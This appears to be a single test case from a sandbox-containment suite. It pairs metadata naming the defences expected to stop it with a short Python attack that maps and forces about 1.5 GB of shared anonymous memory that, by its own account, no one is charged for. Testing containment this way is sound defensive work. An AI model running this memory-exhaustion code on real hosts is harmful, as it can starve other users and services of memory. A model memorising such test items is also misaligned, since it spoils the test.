"""
number = 40
family = "availability"
what = "fill shared anonymous memory up to 1.5 GB and forget each page at once: the kernel keeps it, but counts it for nobody"
stopped_by = ["seccomp on shared anonymous maps", "memory control group", "address space limit"]
verdicts = {full = ["passed", "raised", "out_of_memory"], contained = ["passed", "raised", "out_of_memory"], limited = ["any"]}
"""

import mmap


def attack(targets: dict) -> str:
    held = []
    try:
        while len(held) < 96:
            block = mmap.mmap(-1, 16 << 20)
            held.append(block)
            try:
                block.madvise(23)  # MADV_POPULATE_WRITE: every page at once
            except OSError:
                block.write(b"\1" * (16 << 20))
            block.madvise(mmap.MADV_DONTNEED)
    except (OSError, MemoryError) as error:
        return f"stopped: {type(error).__name__} after {16 * len(held)} MB"
    return "succeeded: 1.5 GB of shared memory that nobody counts"
